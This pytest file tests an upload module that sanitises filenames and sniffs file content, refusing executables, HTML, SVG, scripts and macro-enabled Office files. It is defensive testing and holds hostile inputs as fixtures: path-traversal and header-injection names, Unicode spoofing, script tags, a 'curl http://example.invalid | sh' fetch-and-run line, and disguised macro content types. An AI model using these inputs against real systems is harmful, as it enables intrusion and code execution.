"""File names and content sniffing: tables of hostile names and of real tiny files."""

from __future__ import annotations

import io
import random
import struct
import unicodedata
import zipfile
import zlib

import pytest

from app.domain import files

# ---------------------------------------------------------------- makers of real tiny files

FREE, END, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def make_ole(*streams: str) -> bytes:
    """A version 3 Compound File (512-byte sectors) holding empty streams with these names."""
    entries = ["Root Entry", *streams]
    dir_sectors = -(-len(entries) // 4)
    header = bytearray(512)
    header[0:8] = files.OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<9I", header, 40, 0, 1, 1, 0, 4096, END, 0, END, 0)
    struct.pack_into("<109I", header, 76, 0, *([FREE] * 108))
    fat = [FAT_SECTOR, *(sector + 2 for sector in range(dir_sectors - 1)), END]
    fat_sector = struct.pack(f"<{len(fat)}I", *fat) + b"\xff" * (512 - 4 * len(fat))
    directory = bytearray()
    for index, name in enumerate(entries):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry = bytearray(128)
        entry[: len(encoded)] = encoded
        kind = 5 if index == 0 else 2
        child = 1 if index == 0 and len(entries) > 1 else NO_STREAM
        right = index + 1 if 0 < index < len(entries) - 1 else NO_STREAM
        struct.pack_into("<HBBIII", entry, 64, len(encoded), kind, 1, NO_STREAM, right, child)
        struct.pack_into("<II", entry, 116, END, 0)
        directory += entry
    directory += b"\x00" * (512 * dir_sectors - len(directory))
    return bytes(header) + fat_sector + bytes(directory)


def make_zip(entries: dict[str, bytes], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries.items()):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return buffer.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def make_ooxml(folder: str, main: str, *extra: str, content_types: bytes = CONTENT_TYPES) -> bytes:
    entries = {"[Content_Types].xml": content_types, "_rels/.rels": b"<Relationships/>"}
    entries[f"{folder}/{main}"] = b"<document/>"
    entries.update({name: b"x" for name in extra})
    return make_zip(entries)


def make_odf(media_type: str, *, stored: bool = True) -> bytes:
    return make_zip(
        {"mimetype": media_type.encode(), "content.xml": b"<office:document-content/>"}, stored_first=stored
    )


def make_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


PDF = (
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
EML = (
    b"Received: from mail.example.org by mx.example.gov.uk; Tue, 2 Jan 2024 09:00:00 +0000\r\n"
    b"From: Supplier <security@example.org>\r\n"
    b"To: assurance@example.gov.uk\r\n"
    b"Subject: Penetration test remediation\r\n"
    b"  (second line of a folded subject)\r\n"
    b"Date: Tue, 2 Jan 2024 09:00:00 +0000\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"All findings are closed.\r\n"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"


def sniff(data: bytes, filename: str = "") -> str | None:
    """Sniff a whole in-memory file the way the store does from its temp file."""
    zip_names = ole_names = None
    content_types: list[bytes] = []
    if files.is_zip(data):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            zip_names = archive.namelist()
            content_types = [archive.read(name) for name in zip_names if files.is_content_types_part(name)]
    if files.is_ole(data):
        ole_names = files.ole_entry_names(lambda offset, length: data[offset : offset + length])
    return files.sniff_media_type(
        data[: files.HEAD_BYTES],
        filename=filename,
        zip_names=zip_names,
        ole_names=ole_names,
        content_types=content_types,
    )


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("C:\\Users\\sam\\Desktop\\SSP v2.docx", "SSP v2.docx"),
        ("/var/www/../../shadow", "shadow"),
        ("report\x00.pdf", "report.pdf"),
        ("report.pdf\x00.exe", "report.pdf.exe"),
        ("evil\r\nSet-Cookie: x=1.pdf", "evilSet-Cookie: x=1.pdf"),
        ("tab\there.txt", "tabhere.txt"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("\u200ezero\u200bwidth\u2066iso\u2069late\u200f.pdf", "zerowidthisolate.pdf"),
        ("\udcffsurrogate.pdf", "surrogate.pdf"),
        ("cafe\u0301.txt", "caf\u00e9.txt"),
        ("  many   spaces\u00a0and\u2028lines .pdf ", "many spaces and lines .pdf"),
        (".htaccess", "htaccess"),
        ("...", "evidence"),
        (" . . ", "evidence"),
        ("..", "evidence"),
        ("", "evidence"),
        ("folder/", "evidence"),
        ("\x00\x01\x1f\x7f", "evidence"),
        ("\u202e\u202d", "evidence"),
        ("trailing dot.pdf.", "trailing dot.pdf"),
    ],
)
def test_safe_filename(raw: str, expected: str) -> None:
    assert files.safe_filename(raw) == expected


@pytest.mark.parametrize(
    ("raw", "expected_end"),
    [
        ("a" * 500 + ".pdf", ".pdf"),
        ("b" * 500, "b"),
        ("\u00e9" * 300 + ".xlsx", ".xlsx"),
        ("x." + "y" * 500, "y"),
        ("name " * 100 + ".docx", ".docx"),
    ],
)
def test_long_names_are_capped_keeping_the_extension(raw: str, expected_end: str) -> None:
    safe = files.safe_filename(raw)
    assert len(safe) <= files.MAX_NAME
    assert safe.endswith(expected_end)


HOSTILE = [
    "../../etc/passwd",
    "..\\..\\boot.ini",
    "a\x00b",
    "x\r\ny",
    "invoice\u202efdp.exe",
    "." * 40,
    " \t. \u3000.",
    "\\\\server\\share\\..\\x",
    "a/" * 300 + "z" * 300,
    "".join(chr(code) for code in range(0, 0x3000, 7)),
]


@pytest.mark.parametrize("raw", HOSTILE)
def test_safe_names_are_never_paths_or_hidden(raw: str) -> None:
    safe = files.safe_filename(raw)
    assert safe
    assert len(safe) <= files.MAX_NAME
    assert "/" not in safe and "\\" not in safe
    assert not safe.startswith((".", " ")) and not safe.endswith((".", " "))
    assert all(unicodedata.category(ch) not in {"Cc", "Cf", "Cs"} for ch in safe)
    assert safe == unicodedata.normalize("NFC", safe)
    assert files.safe_filename(safe) == safe


@pytest.mark.parametrize(
    ("name", "media_type", "expected"),
    [
        ("report.pdf", files.PDF, "report.pdf"),
        ("Report.PDF", files.PDF, "Report.PDF"),
        ("invoice.exe", files.PDF, "invoice.exe.pdf"),
        ("run.ps1", files.TEXT, "run.ps1.txt"),
        ("notes.md", files.TEXT, "notes.md"),
        ("photo.jpeg", files.JPEG, "photo.jpeg"),
        ("photo", files.JPEG, "photo.jpg"),
        ("../../etc/passwd", files.TEXT, "passwd.txt"),
        ("mail", files.EML, "mail.eml"),
    ],
)
def test_download_name_ends_with_an_extension_of_the_real_type(
    name: str, media_type: str, expected: str
) -> None:
    assert files.download_name(name, media_type) == expected


def test_long_download_names_stay_within_the_cap() -> None:
    name = files.download_name("a" * 400 + ".exe", files.PDF)
    assert len(name) <= files.MAX_NAME
    assert name.endswith(".exe.pdf")


def test_every_allowed_type_has_an_extension() -> None:
    assert {files.extension_for(media_type)[0] for media_type in files.ALLOWED_MEDIA_TYPES} == {"."}
    assert files.extension_for(files.XLSX) == ".xlsx"


# ---------------------------------------------------------------- sniffing


ALLOWED = [
    ("pdf", PDF, "", files.PDF),
    ("docx", make_ooxml("word", "document.xml"), "", files.DOCX),
    ("xlsx", make_ooxml("xl", "workbook.xml"), "", files.XLSX),
    ("pptx", make_ooxml("ppt", "presentation.xml"), "", files.PPTX),
    ("doc", make_ole("WordDocument", "1Table", "\x05SummaryInformation"), "", files.DOC),
    ("xls", make_ole("Workbook"), "", files.XLS),
    ("ppt", make_ole("PowerPoint Document", "Current User"), "", files.PPT),
    (
        "msg",
        make_ole("__nameid_version1.0", "__substg1.0_0037001F", "__properties_version1.0", "__recip_1"),
        "",
        files.MSG,
    ),
    ("odt", make_odf(files.ODT), "", files.ODT),
    ("ods", make_odf(files.ODS), "", files.ODS),
    ("odp", make_odf(files.ODP), "", files.ODP),
    ("odt with compressed mimetype", make_odf(files.ODT, stored=False), "", files.ZIP),
    ("png", make_png(), "", files.PNG),
    ("jpeg", JPEG, "", files.JPEG),
    ("gif", GIF, "", files.GIF),
    ("webp", WEBP, "", files.WEBP),
    ("text", "Access control policy \u2014 v3\nReviewed.\n".encode(), "policy.txt", files.TEXT),
    ("text with BOM", b"\xef\xbb\xbfhello\r\n", "", files.TEXT),
    ("text named .exe", b"just words\n", "setup.exe", files.TEXT),
    ("xml", b'<?xml version="1.0"?>\n<catalog uuid="x"/>\n', "catalog.xml", files.TEXT),
    ("pen test notes quoting a script", b"Finding 3: <script>alert(1)</script> reflected\n", "", files.TEXT),
    ("csv", b'control,status\nA1,met\nA2,"not met"\n', "register.CSV", files.CSV),
    ("csv content, text name", b"control,status\nA1,met\n", "register.txt", files.TEXT),
    ("eml", EML, "message.eml", files.EML),
    ("eml named .txt", EML, "message.txt", files.EML),
    ("zip", make_zip({"evidence/a.txt": b"a", "evidence/b.pdf": PDF}), "", files.ZIP),
    ("zip with Content_Types only", make_zip({"[Content_Types].xml": CONTENT_TYPES}), "", files.ZIP),
]


@pytest.mark.parametrize(
    ("label", "data", "filename", "expected"), ALLOWED, ids=[case[0] for case in ALLOWED]
)
def test_sniffs_allowed_types(label: str, data: bytes, filename: str, expected: str) -> None:
    assert sniff(data, filename) == expected
    assert expected in files.ALLOWED_MEDIA_TYPES


REFUSED = [
    ("empty", b"", ""),
    ("windows executable", MZ, "report.pdf"),
    ("elf executable", ELF, ""),
    ("html doctype", b"<!DOCTYPE html>\n<html><body>hi</body></html>", "page.txt"),
    ("html tag after whitespace", b"\n\n   <HTML>\n<script>alert(1)</script>", ""),
    ("html fragment", b"<div onclick=x>hello</div>", "notes.csv"),
    ("html comment first", b"<!-- hi --><p>x</p>", ""),
    ("html after BOM", b"\xef\xbb\xbf<body>", ""),
    ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.png"),
    ("svg with xml prolog", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', ""),
    ("xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', ""),
    ("shell script", b"#!/bin/sh\ncurl http://example.invalid | sh\n", "notes.txt"),
    ("python script", b"#!/usr/bin/env python3\nimport os\n", ""),
    ("random bytes", random.Random(1).randbytes(4096), ""),
    ("utf-16 text", "hello world\n".encode("utf-16"), "notes.txt"),
    ("latin-1 text", "caf\u00e9 r\u00e9sum\u00e9\n".encode("latin-1"), ""),
    ("text with control bytes", b"hello\x01\x02world", ""),
    ("macro-enabled docm", make_ooxml("word", "document.xml", "word/vbaProject.bin"), ""),
    ("macro-enabled xlsm", make_ooxml("xl", "workbook.xml", "xl/vbaProject.bin"), ""),
    ("ole that is not office (msi-like)", make_ole("\u4840\u3b3f\u4577\u41ec", "\x05SummaryInformation"), ""),
    ("encrypted ooxml", make_ole("EncryptionInfo", "EncryptedPackage"), ""),
    ("truncated ole", make_ole("WordDocument")[:600], ""),
    ("empty zip", make_zip({}), ""),
    ("gzip", zlib.compress(b"x" * 100, wbits=31), ""),
    ("java class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 20, ""),
]


@pytest.mark.parametrize(("label", "data", "filename"), REFUSED, ids=[case[0] for case in REFUSED])
def test_refuses_everything_else(label: str, data: bytes, filename: str) -> None:
    assert sniff(data, filename) is None


def test_a_zip_whose_directory_could_not_be_read_is_refused() -> None:
    docx = make_ooxml("word", "document.xml")
    assert files.sniff_media_type(docx[: files.HEAD_BYTES], zip_names=None) is None
    assert files.sniff_media_type(make_ole("WordDocument")[:512], ole_names=None) is None


def test_odf_needs_mimetype_as_the_first_entry() -> None:
    odt = make_zip({"content.xml": b"<x/>", "mimetype": files.ODT.encode()})
    assert sniff(odt) == files.ZIP


def test_the_caller_can_say_the_whole_file_is_not_text() -> None:
    head = b"plain words\n"
    assert files.sniff_media_type(head, text=True) == files.TEXT
    assert files.sniff_media_type(head, text=False) is None


@pytest.mark.parametrize(
    ("chunks", "expected"),
    [
        ([b"caf", b"\xc3", b"\xa9 ok\n"], True),  # a character split across chunks
        ([b"caf\xc3"], False),  # cut short at the end
        ([b"fine\n", b"\x00"], False),
        ([b"fine\n", b"\xff"], False),
        ([b"\x1b[1mbold\x1b[0m\tand\x0cform feed\r\n"], True),
        ([], False),
        ([b""], False),
    ],
)
def test_text_probe(chunks: list[bytes], expected: bool) -> None:
    probe = files.TextProbe()
    for chunk in chunks:
        probe.feed(chunk)
    assert probe.is_text() is expected


def _end_record(entries: int, size: int) -> bytes:
    return b"junk" + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, entries, entries, size, 0, 0)


@pytest.mark.parametrize(
    ("tail", "acceptable"),
    [
        (_end_record(3, 200), True),
        (_end_record(files.MAX_ZIP_ENTRIES, 1000), True),
        (_end_record(files.MAX_ZIP_ENTRIES + 1, 1000), False),
        (_end_record(0xFFFF, 1000), False),  # zip64: too many entries to count here
        (_end_record(5, files.MAX_ZIP_DIRECTORY_BYTES + 1), False),
        (b"no end record here", False),
        (_end_record(3, 200)[:-4], False),
    ],
)
def test_zip_directory_limits(tail: bytes, acceptable: bool) -> None:
    assert files.zip_directory_acceptable(files.zip_directory(tail)) is acceptable


def test_ole_directory_spanning_several_sectors_is_followed() -> None:
    names = [f"stream{number}" for number in range(9)] + ["WordDocument"]
    data = make_ole(*names)
    assert files.ole_entry_names(lambda offset, length: data[offset : offset + length]) == [
        "Root Entry",
        *names,
    ]


def test_ole_directory_loops_are_refused() -> None:
    data = bytearray(make_ole("WordDocument"))
    struct.pack_into("<I", data, 512 + 4, 1)  # the directory sector points at itself
    assert files.ole_entry_names(lambda offset, length: bytes(data[offset : offset + length])) is None


# ---------------------------------------------------------------- macros declared by content type

TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def content_types(*overrides: tuple[str, str], defaults: tuple[tuple[str, str], ...] = ()) -> bytes:
    parts = [f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults]
    parts += [f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides]
    return f'<?xml version="1.0"?><Types xmlns="{TYPES_NS}">{"".join(parts)}</Types>'.encode()


MACROS_BY_CONTENT_TYPE = [
    (
        "docm whose VBA part has another name",
        make_ooxml(
            "word",
            "document.xml",
            "word/quarterly-figures.dat",
            content_types=content_types(
                ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                ("/word/quarterly-figures.dat", "application/vnd.ms-office.vbaProject"),
            ),
        ),
    ),
    (
        "vba part declared by a Default extension",
        make_ooxml(
            "word",
            "document.xml",
            "word/figures.bin",
            content_types=content_types(
                ("/word/document.xml", DOCX_MAIN), defaults=(("bin", "application/vnd.ms-office.vbaProject"),)
            ),
        ),
    ),
    (
        "xlsm main part",
        make_ooxml(
            "xl",
            "workbook.xml",
            content_types=content_types(
                ("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            ),
        ),
    ),
    (
        "pptm main part",
        make_ooxml(
            "ppt",
            "presentation.xml",
            content_types=content_types(
                ("/ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
            ),
        ),
    ),
    (
        "activeX control under another name",
        make_ooxml(
            "word",
            "document.xml",
            "word/controls/c1.xml",
            content_types=content_types(("/word/controls/c1.xml", "application/vnd.ms-office.activeX+xml")),
        ),
    ),
    (
        "excel 4 macro sheet",
        make_ooxml(
            "xl",
            "workbook.xml",
            "xl/sheets/s2.xml",
            content_types=content_types(("/xl/sheets/s2.xml", "application/vnd.ms-excel.macrosheet+xml")),
        ),
    ),
    (
        "vba data part",
        make_ooxml(
            "word",
            "document.xml",
            content_types=content_types(("/word/data.xml", "application/vnd.ms-word.vbaData+xml")),
        ),
    ),
    (
        "content type hidden behind a character reference",
        make_ooxml(
            "word",
            "document.xml",
            content_types=content_types(
                ("/word/document.xml", "application/vnd.ms-word.document.&#109;acroEnabled.main+xml")
            ),
        ),
    ),
    (
        "content types in UTF-16",
        make_ooxml(
            "word",
            "document.xml",
            content_types=content_types(("/word/x.bin", "application/vnd.ms-office.vbaProject"))
            .decode()
            .replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
            .encode("utf-16"),
        ),
    ),
    (
        "lower-case content types part name",
        make_zip(
            {
                "[content_types].xml": content_types(("/word/x.bin", "application/vnd.ms-office.vbaProject")),
                "word/document.xml": b"<document/>",
            }
        ),
    ),
    ("activeX part name", make_ooxml("word", "document.xml", "word/activeX/activeX1.bin")),
    ("macro sheet part name", make_ooxml("xl", "workbook.xml", "xl/macrosheets/sheet1.xml")),
    (
        "content types with a DTD",
        make_ooxml(
            "word",
            "document.xml",
            content_types=b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY m "macroEnabled">]>'
            b'<Types xmlns="' + TYPES_NS.encode() + b'"><Override PartName="/a" ContentType="&m;"/></Types>',
        ),
    ),
    ("malformed content types", make_ooxml("word", "document.xml", content_types=b"<Types><Override")),
]


@pytest.mark.parametrize(
    ("label", "data"), MACROS_BY_CONTENT_TYPE, ids=[c[0] for c in MACROS_BY_CONTENT_TYPE]
)
def test_macro_enabled_office_files_are_refused_by_declared_content_type(label: str, data: bytes) -> None:
    assert sniff(data, "report.docx") is None


def test_a_docx_with_ordinary_content_types_is_accepted() -> None:
    docx = make_ooxml(
        "word",
        "document.xml",
        "word/styles.xml",
        content_types=content_types(
            ("/word/document.xml", DOCX_MAIN),
            ("/word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"),
            defaults=(("rels", "application/vnd.openxmlformats-package.relationships+xml"),),
        ),
    )
    assert sniff(docx) == files.DOCX


def test_content_types_that_could_not_be_read_refuse_the_file() -> None:
    docx = make_ooxml("word", "document.xml")
    names = ["[Content_Types].xml", "word/document.xml"]
    head = docx[: files.HEAD_BYTES]
    assert files.sniff_media_type(head, zip_names=names, content_types=[CONTENT_TYPES]) == files.DOCX
    assert files.sniff_media_type(head, zip_names=names, content_types=None) is None
